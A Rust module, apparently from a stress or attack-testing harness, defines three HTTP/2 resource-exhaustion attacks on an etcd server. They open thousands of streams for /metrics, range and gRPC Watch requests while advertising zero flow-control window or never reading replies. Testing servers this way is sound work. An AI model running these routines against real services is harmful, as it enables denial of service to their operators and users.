//! Attackers that ask and do not take the answers.

use super::arms::Arms;
use super::http2::{
    DATA, END_HEADERS, END_STREAM, HEADERS, Http2, INITIAL_WINDOW_SIZE, frame, range_call, request,
};
use std::io;

/// No answer has any room.
const NO_WINDOW: &[(u16, u32)] = &[(INITIAL_WINDOW_SIZE, 0)];

/// Streams of one attacker.
const STREAMS: u32 = 8000;

/// Pages that everybody may see, and no window for them.
pub(super) async fn pages(arms: &Arms) -> io::Result<()> {
    let mut line = Http2::open(arms, NO_WINDOW).await?;
    line.listen();
    let head = request(&arms.authority(), "GET", "/metrics", "text/plain");
    for stream in (1..2 * STREAMS).step_by(2) {
        arms.pace(1).await;
        line.send(&frame(HEADERS, END_HEADERS | END_STREAM, stream, &head))
            .await?;
    }
    line.sit(arms).await
}

/// Requests that are refused, and nobody reads from the socket.
pub(super) async fn refusals(arms: &Arms) -> io::Result<()> {
    let mut line = Http2::open(arms, &[]).await?;
    let head = range_call(&arms.authority());
    for stream in (1..2 * STREAMS).step_by(2) {
        arms.pace(1).await;
        let mut both = frame(HEADERS, END_HEADERS, stream, &head);
        both.extend(frame(
            DATA,
            END_STREAM,
            stream,
            &[0, 0, 0, 0, 3, 0x0a, 1, b'h'],
        ));
        line.send(&both).await?;
    }
    line.sulk().await
}

/// Streams of watches, each full of questions whose answers have no window.
pub(super) async fn watches(arms: &Arms) -> io::Result<()> {
    let mut line = Http2::open(arms, NO_WINDOW).await?;
    line.listen();
    let head = request(
        &arms.authority(),
        "POST",
        "/etcdserverpb.Watch/Watch",
        "application/grpc",
    );
    // WatchRequest { create_request { key: "h" } }, as often as a frame holds it.
    let asks = [0, 0, 0, 0, 5, 0x0a, 3, 0x0a, 1, b'h'].repeat(1600);
    for stream in (1..2 * STREAMS).step_by(2) {
        arms.pace(1).await;
        let mut both = frame(HEADERS, END_HEADERS, stream, &head);
        // Beyond the connection's window this is a fault of ours, and the connection is ended for it.
        both.extend(frame(DATA, 0, stream, &asks));
        line.send(&both).await?;
    }
    line.sit(arms).await
}
